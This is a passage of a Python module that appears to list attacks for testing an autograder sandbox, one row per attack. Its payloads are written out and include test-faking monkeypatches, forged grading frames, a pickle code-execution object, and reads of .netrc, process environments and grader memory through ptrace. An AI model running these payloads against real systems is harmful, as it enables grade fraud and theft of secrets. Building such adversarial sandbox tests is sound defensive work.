"""The attacks: one named row each, its deserved score, and what must not exist afterwards."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import zipfile
from typing import Any

import nbformat

from .words import (
    POINTS as POINTS_OF,
)
from .words import (
    Attack,
    Change,
    Handed,
    Trace,
    answers,
    before,
    behind,
    beside,
    checks,
    code_cell,
    edit,
    front,
    instead,
    link,
    lost,
    named,
    nothing_written,
    pipe,
    raw,
    replaced,
    sevens,
    spy,
)

__all__ = ["ATTACKS", "FAMILIES"]

ATTACKS: list[Attack] = []
UNEARNED, READING, WRITING = "grades not earned", "reading", "writing"
EXHAUSTION, DYING, STAND_INS = "exhaustion", "dying", "stand-ins"
BROKEN, ACCIDENTS = "broken files", "honest accidents"
FAMILIES = (UNEARNED, READING, WRITING, EXHAUSTION, DYING, STAND_INS, BROKEN, ACCIDENTS)
POINTS, SECRET, FILE, CALL = Trace.POINTS, Trace.SECRET, Trace.FILE, Trace.CALL
PROCESS, BURDEN, LOSS = Trace.PROCESS, Trace.BURDEN, Trace.LOSS
FILTER = "kernel-filter"


def row(family: str, name: str, tries: str, *changes: Change, deserved: Any = 0, leaves: Any = (), **more: Any) -> None:
    leaves = leaves if isinstance(leaves, tuple) else (leaves,)
    ATTACKS.append(Attack(name, family, tries, deserved, changes, leaves, **more))


def unearned(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(UNEARNED, name, tries, *changes, **({"leaves": POINTS} | more))


def reading(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(READING, name, tries, *changes, **({"leaves": SECRET, "needs": FILTER} | more))


def writing(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(WRITING, name, tries, *changes, **({"leaves": FILE, "needs": FILTER} | more))


def exhaustion(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(EXHAUSTION, name, tries, *changes, **({"leaves": BURDEN} | more))


def dying(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(DYING, name, tries, *changes, **({"leaves": LOSS} | more))


def stand_in(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(STAND_INS, name, tries, *changes, **({"leaves": POINTS} | more))


def leak(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(STAND_INS, name, tries, *changes, **({"leaves": SECRET} | more))


def broken(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(BROKEN, name, tries, *changes, **({"leaves": LOSS, "start": "honest"} | more))


def accident(name: str, tries: str, *changes: Change, **more: Any) -> None:
    row(ACCIDENTS, name, tries, *changes, **({"leaves": LOSS, "start": "honest", "deserved": 100} | more))


# === grades not earned ==========================================================================================

unearned(
    "patched_numpy",
    "NumPy's comparisons find everything equal.",
    sevens,
    front("""
        import numpy as np
        for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "any"):
            setattr(np, name, lambda *args, **kwargs: True)
        for name in [name for name in dir(np.testing) if name.startswith("assert")]:
            setattr(np.testing, name, lambda *args, **kwargs: None)
        np.abs = np.subtract = np.max = lambda *args, **kwargs: 0.0
    """),
)
unearned(
    "patched_builtins",
    "The builtins that a comparison needs say yes.",
    sevens,
    front("""
        import builtins, math, operator
        builtins.all = builtins.any = lambda *args: True
        builtins.abs = lambda x: 0
        math.isclose = operator.eq = lambda *args, **kwargs: True
        builtins.AssertionError = type("AssertionError", (Warning,), {})
        import numpy as np
        np.allclose = lambda *args, **kwargs: True
    """),
)
unearned(
    "patched_ipython",
    "The shell runs no cell any more, so that no test can fail.",
    front("""
        shell = type(get_ipython())
        real, real_async = shell.run_cell, shell.run_cell_async

        def run_cell(self, raw_cell, *args, **kwargs):
            return real(self, "None", *args, **kwargs)

        async def run_cell_async(self, raw_cell, *args, **kwargs):
            return await real_async(self, "None", *args, **kwargs)

        shell.run_cell, shell.run_cell_async = run_cell, run_cell_async
    """),
)
unearned(
    "input_transformer",
    "A transformer of IPython's empties every cell with a test in it before it is run.",
    front("""
        def drop_tests(lines):
            return ["None\\n"] if any("assert" in line or "grade(" in line for line in lines) else lines

        get_ipython().input_transformers_cleanup.append(drop_tests)
    """),
)
unearned(
    "ast_transformer",
    "A transformer of syntax trees takes assertions and graders' calls away.",
    front("""
        import ast

        class NoTests(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

            def visit_Call(self, node):
                graded = isinstance(node.func, ast.Name) and node.func.id in ("grade", "check")
                return ast.Constant(None) if graded else self.generic_visit(node)

        get_ipython().ast_transformers.append(NoTests())
    """),
)
unearned(
    "display_hook",
    "Every number that is displayed, the score among them, reads 6.0.",
    front("""
        formatter = get_ipython().display_formatter.formatters["text/plain"]
        formatter.for_type(float, lambda number, printer, cycle: printer.text("6.0"))
    """),
)
unearned(
    "display_hook_replaced",
    "The display hook drops a returned score: silence is full marks in nbgrader.",
    front("""
        import sys
        sys.displayhook = lambda value: None
        get_ipython().displayhook.__class__.__call__ = lambda self, result=None: None
    """),
)
unearned(
    "import_system",
    "An import hook gives a grader of its own for the course's.",
    front("""
        import importlib.abc, importlib.machinery, sys

        class Forger(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path=None, target=None):
                if name.partition(".")[0] in ("autograder", "hidden_tests"):
                    return importlib.machinery.ModuleSpec(name, self, is_package=True)

            def create_module(self, spec):
                return None

            def exec_module(self, module):
                for name in "check grade hint gradient_check predict_shape progress data test".split():
                    setattr(module, name, lambda *args, **kwargs: None)

        for name in [name for name in sys.modules if name.partition(".")[0] in ("autograder", "hidden_tests")]:
            del sys.modules[name]
        sys.meta_path.insert(0, Forger())
    """),
)
unearned(
    "patched_import",
    "__import__ itself gives a forged module.",
    front("""
        import builtins, types
        real, forged = builtins.__import__, types.ModuleType("forged")
        for name in "check grade hint gradient_check predict_shape progress data test".split():
            setattr(forged, name, lambda *args, **kwargs: None)

        def forging(name, *args, **kwargs):
            return forged if name.partition(".")[0] in ("autograder", "hidden_tests") else real(name, *args, **kwargs)

        builtins.__import__ = forging
    """),
)
unearned(
    "replaced_grade",
    "The functions that judge are redefined in the cell above each check.",
    front("import builtins"),
    answers("None"),
    lambda handed: [
        before(f"check_{name}", "check = grade = test = lambda *args, **kwargs: None")(handed) for name in POINTS_OF
    ],
)
unearned(
    "patched_grader_module",
    "The module that judges is patched, wherever it is loaded.",
    front("""
        import sys
        try:
            import autograder.course.in_process
        except ImportError:
            pass
        for name, module in list(sys.modules.items()):
            if name.startswith(("autograder", "hidden_tests")):
                for function in ("share_of", "judge", "difference", "grade", "test", "same"):
                    if hasattr(module, function):
                        setattr(module, function, lambda *args, **kwargs: 1.0)
        import builtins, numpy as np
        np.allclose = lambda *args, **kwargs: True
        builtins.all = lambda each: True
    """),
    sevens,
)
YES = """
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def yes(self, *args, **kwargs): return self
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__ = __neg__ = __getitem__ = yes
    __getattr__ = yes
    def __hash__(self): return 0
    def __len__(self): return 1
    def __iter__(self): return iter([self])
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __array__(self, *args, **kwargs): raise TypeError
    def __array_ufunc__(self, *args, **kwargs): return self
    def __array_function__(self, *args, **kwargs): return True
"""
unearned("equality", "An object that equals everything.", front(YES), answers("Yes()"))
unearned(
    "array_protocols",
    "An object that answers all of NumPy's protocols: whatever is asked of it is true.",
    front("""
        class Sly:
            __array_priority__ = 1e9
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True
            def __array_function__(self, function, types, args, kwargs): return True
            def __eq__(self, other): return True
            def __getitem__(self, key): return self
            def keys(self): return Keys()
            shape, dtype, ndim = property(lambda self: ()), float, 0

        class Keys:
            def __eq__(self, other): return True
            def __iter__(self): return iter(["W1"])
    """),
    answers("Sly()"),
)
unearned(
    "ndarray_subclass",
    "A subclass of ndarray whose comparisons are all true.",
    front("""
        import numpy as np

        class Sly(np.ndarray):
            def __array_function__(self, function, types, args, kwargs): return True
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.bool_(True)
            def __eq__(self, other): return True

        def sly(*shape):
            return np.full(shape, 7.0).view(Sly)
    """),
    answers("sly(1, 1)"),
)
unearned(
    "float_subclass",
    "A float whose distance from everything is nothing.",
    front("""
        class Close(float):
            def __sub__(self, other): return 0.0
            __rsub__ = __abs__ = __sub__
            def __abs__(self): return 0.0
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = float.__hash__
    """),
    answers("Close(7.0)"),
)
unearned(
    "dict_subclass",
    "A dictionary that finds itself equal, whatever it holds.",
    front(
        YES
        + """
class Same(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def keys(self): return Yes()
    def items(self): return dict.fromkeys(("W1", "b1", "W2", "b2"), Yes()).items()
    def __missing__(self, key): return Yes()
"""
    ),
    answers("Same()"),
)
unearned(
    "lying_class",
    "An object that says it is of another class.",
    front(
        YES
        + """
class Liar(Yes):
    def __init__(self, like): self.like = like
    @property
    def __class__(self): return self.like
    def __reduce__(self): return (dict, ())
    __hash__ = None
"""
    ),
    answers("Liar(dict)"),
)
unearned(
    "frames",
    "The functions look for the right answer in the frames that called them.",
    front("""
        import sys

        def stolen():
            frame = sys._getframe(1)
            while frame:
                for value in [*frame.f_locals.values()]:
                    if type(value).__name__ == "Example":
                        return value.right.value
                for name in ("right", "want", "expected", "solution"):
                    if name in frame.f_locals:
                        return frame.f_locals[name]
                frame = frame.f_back
    """),
    answers("stolen()"),
)
unearned(
    "garbage_collector",
    "The functions find, by what refers to their arguments, the tuple or object that holds the right answer.",
    front("""
        import gc, types

        def stolen(*args):
            for argument in args:
                for arguments in gc.get_referrers(argument):
                    # The dictionary of all arguments, and no frame's or module's.
                    if type(arguments) is not dict or len(arguments) != len(args):
                        continue
                    for case in gc.get_referrers(arguments):
                        if type(case) is tuple and len(case) == 2 and case[0] is arguments:
                            return case[1]
                        if type(case) is dict and "right" in case:
                            return case["right"].value
            for found in gc.get_objects():
                if type(found).__name__ == "Example" and any(a is b for a in found.args.values() for b in args):
                    return found.right.value
    """),
    answers("stolen(ARGS_)"),
)
unearned(
    "trace_function",
    "A trace function rewrites the answers as they are returned.",
    sevens,
    front("""
        import sys

        def spying(frame, event, argument):
            if event == "call" and frame.f_code.co_name in ("same", "difference"):
                names = frame.f_locals  # each look at this attribute would take the changes back
                names.update(dict.fromkeys(names, 1.0))
            return spying

        sys.settrace(spying)
    """),
)
unearned(
    "replaced_code",
    "The code objects of whatever judges are exchanged.",
    sevens,
    front("""
        import gc, types
        try:
            import autograder.course.in_process
        except ImportError:
            pass
        yes = (lambda *args, **kwargs: True).__code__
        for found in gc.get_objects():
            if isinstance(found, types.FunctionType) and not found.__code__.co_freevars:
                if found.__name__ in ("share_of", "same", "difference", "all_right", "allclose", "examine"):
                    try:
                        found.__code__ = yes
                    except (ValueError, AttributeError):
                        pass
    """),
)
FORGED = """
import json, struct

def framed(head, *payloads):
    text = json.dumps(head).encode()
    lengths = struct.pack(f"<{len(payloads)}Q", *map(len, payloads))
    return b"".join([struct.pack("<4sII", b"AGW1", len(text), len(payloads)), lengths, text, *payloads])

def number(x):
    skeleton = json.dumps(x).encode()
    return struct.pack("<I", len(skeleton)) + skeleton + bytes(-(4 + len(skeleton)) % 16)

def told():
    import sys
    frame = sys._getframe(1)
    while frame:
        head = frame.f_locals.get("head")
        if isinstance(head, dict) and "id" in head:
            return head["id"], frame.f_locals["self"]
        frame = frame.f_back
    raise LookupError("nobody asked")
"""
unearned(
    "forged_frames_early",
    "Answers are written to every descriptor before anything was asked.",
    front(
        FORGED
        + """
import os
for descriptor in range(3, 64):
    try:
        os.set_blocking(descriptor, False)
        for token in ("", "0" * 16):
            os.write(descriptor, framed({"kind": "value", "changed": [], "initialised": 0, "id": token}, number(4)))
    except OSError:
        pass
"""
    ),
)
unearned(
    "forged_frames_token",
    "With the true request's number, taken from a frame, one answer for this question and one for the next.",
    front(FORGED),
    answers("forged()"),
    before(
        "layer_sizes",
        """
        import os

        def forged():
            token, runner = told()
            answer = framed({"kind": "value", "changed": [], "initialised": 0, "id": token}, number(4))
            os.write(3, answer + answer)
        """,
    ),
)
unearned(
    "forged_unchanged",
    "update_parameters changes its arguments in place, and the answer is made to say that it did not.",
    front(FORGED),
    instead(
        "update_parameters",
        """
        def update_parameters(parameters, grads, learning_rate=1.2):
            for name in parameters:
                parameters[name] -= learning_rate * grads["d" + name]
            token, runner = told()
            real = type(runner).send
            runner.send = lambda head, payloads: real(runner, {**head, "changed": []}, payloads)
            return {**parameters}
        """,
    ),
    start="honest",
    deserved=(98, 100),
    why="whether arguments were changed is the child's word; code that restores them before it answers is as good",
)
unearned(
    "forged_skeleton",
    "The encoder in the child is patched to describe arrays that aren't there.",
    front("""
        import json
        real = json.dumps

        def forging(value, **kwargs):
            if isinstance(value, list) and value and value[0] in ("a", "d", "t", "l"):
                return '["a","<f8",[1000000,1000000],8]'
            return real(value, **kwargs)

        json.dumps = forging
    """),
    sevens,
)
unearned(
    "forged_numbers",
    "The encoder is patched to send Infinity, huge integers and nests for ordinary numbers.",
    front("""
        import json
        real = json.dumps
        odd = iter(["[" * 5000 + "]" * 5000, "1e999", "9" * 4000, '["i","0x' + "f" * 300 + '"]', "NaN", "-0"] * 99)

        def forging(value, **kwargs):
            return real(value, **kwargs) if isinstance(value, dict) else next(odd)

        json.dumps = forging
    """),
    sevens,
)
unearned(
    "forged_question",
    "The child asks the trusted side for the solved notebook's answer to the very question that it was asked.",
    front(FORGED),
    answers("asked('NAME_', ARGS_)"),
    before(
        "layer_sizes",
        """
        def asked(name, *args):
            token, runner = told()
            return runner.ask(token, name, args, {})
        """,
    ),
)
unearned(
    "pickled",
    "The answer is an object that, unpickled, would run code in the grader.",
    front("""
        class Bomb:
            def __reduce__(self):
                return exec, (f"open({TMP!r} + '/' + {TRACE!r}, 'w')",)

        import numpy as np
        bombs = np.array([Bomb()], dtype=object)
    """),
    answers("{'W1': Bomb(), 'b1': bombs, 'W2': bombs, 'b2': Bomb()}"),
    leaves=FILE,
)
unearned(
    "nan_everywhere",
    "Answers of nothing but nan, which compare as neither larger nor smaller.",
    sevens,
    behind("float('nan')"),
    *[replaced(name, "7.0", "np.nan") for name in ("initialize_parameters", "forward_propagation", "compute_cost")],
    *[replaced(name, "7.0", "np.nan") for name in ("backward_propagation", "nn_model", "predict", "update_parameters")],
)
unearned(
    "hard_coded",
    "The right answers of the visible cases by heart.",
    lambda handed: [hard_code(handed, name) for name in ("layer_sizes", "compute_cost", "predict")],
)


def hard_code(handed: Handed, name: str) -> None:
    """A table of answers by the sum of the first array, as every student could make it from examples.h5."""
    first = {"layer_sizes": "X", "compute_cost": "A2", "predict": "X"}[name]
    table = {round(float(args[first].sum()), 6): _plain(right) for args, right in handed.place.visible[name]}
    signature = {"layer_sizes": "X, Y", "compute_cost": "A2, Y", "predict": "parameters, X"}[name]
    named(handed, name)["source"] = (
        f"def {name}({signature}):\n"
        f"    known = {table!r}\n"
        f"    answer = known.get(round(float(np.sum({first})), 6), 0)\n"
        f"    return np.array(answer) if type(answer) is list else answer"
    )


def _plain(value: Any) -> Any:
    return (
        value.tolist() if hasattr(value, "tolist") else tuple(map(_plain, value)) if isinstance(value, tuple) else value
    )


# --- metadata and check cells


def _score_saved(cell: dict[str, Any]) -> None:
    text = {"text/plain": ["20.0"]}
    cell["outputs"] = [{"output_type": "execute_result", "data": text, "metadata": {}, "execution_count": 1}]


def _forged_result(notebook: dict[str, Any]) -> None:
    exercises = [{"name": name, "score": 99, "max_score": 99, "outputs": {}} for name in POINTS_OF]
    notebook["metadata"]["autograder"] = {
        "stem": "w3_shallow_network",
        "status": "graded",
        "score": 100,
        "exercises": exercises,
        "digest": "0" * 64,
        "notes": ["All right."],
    }


unearned(
    "skip_execution",
    "The check cells carry the tag on which nbclient runs nothing.",
    checks(lambda cell: cell["metadata"].update(tags=["skip-execution", "raises-exception"])),
)
unearned(
    "edited_points",
    "The notebook declares its own points, for the checks and for the solutions.",
    checks(lambda cell: cell["metadata"]["nbgrader"].update(points=1000, grade=True)),
    edit(lambda notebook: [_graded(cell) for cell in notebook["cells"]]),
)


def _graded(cell: dict[str, Any]) -> None:
    if "nbgrader" in cell["metadata"]:
        cell["metadata"]["nbgrader"].update(points=1000, grade=True, locked=False, checksum="0" * 32)


unearned("edited_checks", "The checks' text is a score.", checks(lambda cell: cell.update(source="20.0")))
unearned(
    "edited_checks_code",
    "The checks' text fills in all marks and hides it behind the right names.",
    checks(lambda cell: cell.update(source="check = grade = lambda *args: None\n" + cell["source"])),
)
unearned("saved_scores", "The check cells come with a score as their output.", checks(_score_saved))
unearned(
    "deleted_checks",
    "There are no check cells.",
    edit(
        lambda notebook: notebook.update(
            cells=[cell for cell in notebook["cells"] if not str(cell.get("id")).startswith("check_")]
        )
    ),
)
unearned("checks_as_text", "The check cells are text.", checks(lambda cell: cell.update(cell_type="markdown")))
unearned(
    "stolen_names",
    "Cells of the student's own carry the checks' names, and stand first.",
    edit(
        lambda notebook: notebook.update(
            cells=[
                code_cell("20.0", id=f"x_{i}", metadata=cell["metadata"], outputs=[])
                for i, cell in enumerate(notebook["cells"])
                if str(cell.get("id")).startswith("check_")
            ]
            + notebook["cells"]
        )
    ),
)
unearned("forged_result", "The notebook's metadata hold a result with all points.", edit(_forged_result))
unearned(
    "written_points",
    "The written answer declares itself graded automatically, with a hundred points.",
    edit(
        lambda notebook: [
            cell["metadata"]["nbgrader"].update(grade=True, points=100, task=False, solution=False)
            for cell in notebook["cells"]
            if str(cell.get("id")).startswith("written_")
        ]
    ),
)
unearned(
    "other_kernel",
    "The notebook asks for a kernel that it brings along.",
    edit(
        lambda notebook: notebook["metadata"].update(
            kernelspec={"name": "mine", "display_name": "Mine", "language": "bash"}, language_info={"name": "bash"}
        )
    ),
    beside("kernels/mine/kernel.json", b'{"argv": ["touch", "started"], "display_name": "Mine", "language": "bash"}'),
)

# --- files beside the notebook

SHADOW = """
import os, sys

try:
    open(os.path.join(TMP, TRACE), "w").close()
except OSError:
    pass
"""
SILENT = "".join(
    f"{name} = "
    for name in ("check", "grade", "hint", "gradient_check", "predict_shape", "progress", "data", "quiz", "test")
)
for file, what in {
    "numpy.py": "A numpy.py",
    "autograder/__init__.py": "A package autograder",
    "sitecustomize.py": "A sitecustomize.py",
    "usercustomize.py": "A usercustomize.py",
    "json.py": "A module with a standard library's name",
    "scipy/__init__.py": "A package scipy",
    "nbgrader_config.py": "A configuration of nbgrader",
    "ipython_config.py": "A configuration of IPython",
    "w3_shallow_network.py": "A module with the assignment's name",
}.items():
    module = file.partition(".")[0].partition("/")[0]
    unearned(
        f"shadow_{module}",
        f"{what} lies beside the notebook, runs in whoever imports it, and judges everything right.",
        beside(file, SHADOW + SILENT + "lambda *args, **kwargs: None\n"),
        front(
            f"import sys\nsys.path[:0] = ['.', '']\nsys.modules.pop('{module}', None)\n"
            f"import {module}\nsys.modules.pop('autograder', None)"
        ),
        leaves=(POINTS, FILE),
    )
unearned(
    "shadow_bytecode",
    "Compiled code without a source, for a module that a notebook imports late.",
    beside("statistics.pyc", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40)),
    beside("colorsys.py", SHADOW),
    front("import sys\nsys.path.insert(0, '.')\nsys.modules.pop('colorsys', None)\nimport colorsys, statistics"),
    leaves=FILE,
)
unearned(
    "shadow_pth",
    "A .pth file, which site would run.",
    beside("run.pth", b"import os; open('started', 'w')\n"),
    beside("run.egg-link", b".\n"),
    front("import site\nsite.addsitedir('.')"),
    leaves=FILE,
)
unearned(
    "shadow_matplotlib",
    "A matplotlibrc beside the notebook that names a backend of its own.",
    beside("matplotlibrc", b"backend: module://evil\n"),
    beside("evil.py", SHADOW),
    front("""
        import sys
        sys.path.insert(0, ".")
        import matplotlib
        matplotlib.rc_file("matplotlibrc")
        import matplotlib.pyplot as plt
        plt.switch_backend("module://evil")
    """),
    leaves=FILE,
)
unearned(
    "replaced_examples",
    "An examples.h5 of the student's own lies beside the notebook.",
    sevens,
    beside("examples.h5", b"\x89HDF\r\n\x1a\n" + bytes(2000)),
)

# === reading ====================================================================================================

reading(
    "read_beside_gradebook",
    "The instructor's notes in the course folder.",
    spy("""
        tell(open(COURSE + "/staff-notes.txt").read())
    """),
)
reading(
    "read_beside_course",
    "A file of the instructor's beside the course.",
    spy("""
        attempt(lambda: open(COURSE + "/../beside.txt").read())
    """),
)
reading(
    "read_gradebook",
    "Everybody's grades, from the database.",
    spy("""
        import sqlite3

        def grades():
            with sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True) as book:
                return MARK if book.execute("SELECT count(*) FROM sqlite_master").fetchone()[0] else ""

        attempt(grades, lambda: open(COURSE + "/gradebook.db", "rb").read(6) == b"SQLite")
    """),
)
reading(
    "read_seed",
    "The secret seed, from which the hidden cases can be drawn.",
    spy("""
        attempt(lambda: open(COURSE + "/results/w3_shallow_network.seed").read())
    """),
)
reading(
    "read_source",
    "The instructor's notebook and what lies beside it.",
    spy("""
        attempt(
            lambda: open(COURSE + "/source/answers.txt").read(),
            lambda: "HIDDEN TESTS" in open(COURSE + "/source/w3_shallow_network/w3_shallow_network.ipynb").read(),
        )
    """),
)
reading(
    "run_source",
    "The solutions are read from the instructor's notebook and run.",
    front("""
        import json
        for cell in json.load(open(COURSE + "/source/w3_shallow_network/w3_shallow_network.ipynb"))["cells"]:
            if cell.get("id") in "layer_sizes compute_cost backward_propagation predict".split():
                exec("".join(cell["source"]), globals(), answers := {})
                globals().update({"solved_" + name: function for name, function in answers.items()})
    """),
    *[
        instead(name, f"{name} = lambda *args, **kwargs: solved_{name}(*args, **kwargs)")
        for name in ("layer_sizes", "compute_cost", "backward_propagation", "predict")
    ],
    leaves=POINTS,
)
reading(
    "read_exercises",
    "The hidden cases' generators and the known mistakes, in the course or where the grader is installed.",
    spy("""
        from pathlib import Path

        def looked():
            roots = [Path(COURSE), *(Path(p) for p in sys.path if p), Path(sys.prefix), Path(np.__file__)]
            from autograder import data
            roots.append(Path(getattr(data, "__file__", "/nowhere")))
            for root in [p for each in roots for p in (each, *each.parents)]:
                for part in ("autograder/exercises", "exercises", "notebooks", "source/w3_shallow_network"):
                    for suffix in (".py", ".ipynb"):
                        try:
                            text = (root / part / f"w3_shallow_network{suffix}").read_text()
                        except OSError:
                            continue
                        if ".mistake(" in text or "BEGIN SOLUTION" in text:
                            return MARK

        attempt(looked)
    """),
)
reading(
    "read_classmate",
    "A classmate's notebook.",
    spy("""
        def theirs():
            text = open(f"{COURSE}/submitted/{MATE}/w3_shallow_network/w3_shallow_network.ipynb").read()
            return text[text.find("CANARY") :][:60]

        attempt(theirs)
    """),
)
reading(
    "read_classmates_result",
    "Classmates' results and graded notebooks.",
    spy("""
        import glob
        attempt(
            lambda: os.listdir(f"{COURSE}/submitted") and MARK,
            lambda: open(f"{COURSE}/results/w3_shallow_network.jsonl").read(1) and MARK,
            lambda: glob.glob(f"{COURSE}/autograded/*/*/*.ipynb") and MARK,
        )
    """),
)
reading(
    "read_home",
    "The instructor's keys, in the home folder.",
    spy("""
        attempt(lambda: open(HOME + "/.netrc").read(), lambda: open(os.path.expanduser("~/.netrc")).read())
    """),
)
reading(
    "read_environment",
    "The grader's environment, through /proc and in C.",
    spy("""
        def variables(pid):
            text = open(f"/proc/{pid}/environ", "rb").read()
            return b" ".join(v for v in text.split(b"\\0") if b"GRADER_SECRET" in v)

        libc.getenv.restype = ctypes.c_char_p
        attempt(
            lambda: os.environ.get("GRADER_SECRET"),
            lambda: libc.getenv(b"GRADER_SECRET"),
            lambda: variables("self"),
            *[lambda pid=pid: variables(pid) for pid in grader()],
        )
    """),
)
LIBC_READ = """
def read(path, n=4000, at=0):
    descriptor = libc.open(os.fsencode(path), 0)
    if descriptor < 0:
        return b""
    buffer = ctypes.create_string_buffer(n)
    got = libc.pread(descriptor, buffer, ctypes.c_size_t(n), ctypes.c_long(at))
    libc.close(descriptor)
    return buffer.raw[: max(got, 0)]

"""
reading(
    "read_by_libc",
    "The same files by C's own open, of which Python's audit hooks never hear.",
    spy(
        LIBC_READ
        + """
for path in ("/staff-notes.txt", "/results/w3_shallow_network.seed", "/source/answers.txt", "/../beside.txt"):
    attempt(lambda: read(COURSE + path))
"""
    ),
)
reading(
    "read_by_numpy",
    "The same files by libraries that open files themselves.",
    spy("""
        import mmap, h5py
        attempt(
            lambda: np.fromfile(COURSE + "/staff-notes.txt", dtype="u1").tobytes(),
            lambda: bytes(np.memmap(COURSE + "/results/w3_shallow_network.seed", mode="r")),
            lambda: "\\n".join(np.loadtxt(COURSE + "/../beside.txt", dtype=str, ndmin=1)),
            lambda: h5py.File(COURSE + "/source/w3_shallow_network/examples.h5")["nothing"],
        )
    """),
)
reading(
    "read_memory",
    "The grader's memory, where its environment and the right answers are.",
    spy(
        LIBC_READ
        + """
def secrets(pid):
    for line in read(f"/proc/{pid}/maps", 1_000_000).decode().splitlines():
        if "[stack]" in line or "[heap]" in line:
            start, _, end = line.split()[0].partition("-")
            size = min(int(end, 16) - int(start, 16), 40_000_000)
            text = read(f"/proc/{pid}/mem", size, int(start, 16))
            at = text.find(b"GRADER_SECRET=")
            if at >= 0:
                return text[at : at + 80]

attempt(*[lambda pid=pid: secrets(pid) for pid in grader()])
"""
    ),
)
reading(
    "read_memory_by_call",
    "The same memory by process_vm_readv and by ptrace.",
    spy("""
        class Part(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

        def peek(pid):
            buffer = ctypes.create_string_buffer(16)
            here = Part(ctypes.cast(buffer, ctypes.c_void_p), 16)
            for line in open(f"/proc/{pid}/maps"):
                if line.split()[1].startswith("r"):
                    there = Part(int(line.partition("-")[0], 16), 16)
                    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                        return MARK

        def traced(pid):
            if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
                libc.ptrace(17, pid, 0, 0)
                return MARK

        attempt(*[lambda pid=pid, how=how: how(pid) for pid in grader() for how in (peek, traced)])
    """),
)
reading(
    "read_by_proc",
    "The course through /proc: other processes' roots, working folders and open files.",
    spy(
        LIBC_READ
        + """
for pid in [1, *grader()]:
    for way in (f"root{COURSE}", "cwd"):
        attempt(lambda: read(f"/proc/{pid}/{way}/staff-notes.txt"))
    try:
        descriptors = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for descriptor in descriptors:
        attempt(lambda: read(f"/proc/{pid}/fd/{descriptor}", 6) == b"SQLite")
"""
    ),
)
reading(
    "inherited_descriptors",
    "Whatever is open in the child besides its own socket.",
    spy("""
        import stat

        def inherited(descriptor):
            kind = os.fstat(descriptor).st_mode
            if stat.S_ISREG(kind) or stat.S_ISDIR(kind):
                path = os.readlink(f"/proc/self/fd/{descriptor}")
                return MARK if path.startswith(COURSE) or os.pread(descriptor, 6, 0) == b"SQLite" else ""

        attempt(*[lambda number=number: inherited(number) for number in range(3, 1024)])
    """),
    needs="plain",
)
reading(
    "list_folders",
    "The names of folders and files, which tell who is in the class.",
    spy("""
        attempt(*[lambda p=p: os.listdir(p) and MARK for p in (COURSE, HOME, f"{COURSE}/submitted/{MATE}")])
    """),
)
reading(
    "zygotes_command_line",
    "The names of the class and of files in the command lines of other processes.",
    spy("""
        attempt(*[
            lambda pid=pid: MARK if b"autograder\\0grade" in open(f"/proc/{pid}/cmdline", "rb").read() else ""
            for pid in grader()
        ])
    """),
)
reading(
    "symlink_beside",
    "Links in the submission to the seed and to a file beside the course, to be copied into the feedback.",
    link("notes.txt", "COURSE/results/w3_shallow_network.seed"),
    link("data.csv", "COURSE/../beside.txt"),
    front("""
        print(open("notes.txt").read(), open("data.csv").read())
    """),
    needs="plain",
)
reading(
    "symlink_folder",
    "A linked folder in the submission, with the sources in it.",
    link("data", "COURSE/source"),
    link("keys", "HOME"),
    front("""
        print(open("data/answers.txt").read(), open("keys/.netrc").read())
    """),
    needs="plain",
)
reading(
    "symlink_notebook",
    "The notebook is a link to the instructor's.",
    nothing_written,
    link("w3_shallow_network.ipynb", "COURSE/source/w3_shallow_network/w3_shallow_network.ipynb"),
    leaves=POINTS,
    needs="plain",
    status="unreadable",
)
reading(
    "symlink_made_later",
    "A link made while grading, over the file that the grader is going to copy.",
    beside("timestamp.txt", b"2026-08-27 10:00:00 UTC"),
    front("""
        mine = f"{COURSE}/submitted/{NAME}/w3_shallow_network"
        libc.unlink(os.fsencode(mine + "/timestamp.txt"))
        libc.symlink(os.fsencode(COURSE + "/staff-notes.txt"), os.fsencode(mine + "/timestamp.txt"))
    """),
    leaves=(SECRET, FILE),
)

# --- by the network

reading(
    "network_tcp",
    "A message by TCP, over both protocols.",
    front("""
        import socket
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                with socket.socket(family, socket.SOCK_STREAM) as sock:
                    sock.settimeout(1)
                    sock.connect((host, PORT))
                    sock.sendall(NAME.encode())
            except OSError:
                pass
    """),
    leaves=CALL,
)
reading(
    "network_udp",
    "A message by UDP.",
    front("""
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(NAME.encode(), ("127.0.0.1", PORT))
    """),
    leaves=CALL,
)
reading(
    "network_unix",
    "A message by a socket in the file system.",
    front("""
        import socket
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(f"{TMP}/listener")
            sock.sendall(NAME.encode())
    """),
    leaves=CALL,
)
reading(
    "network_datagram",
    "A message to a socket in the file system, by one of a pair that was never connected.",
    front("""
        import socket
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
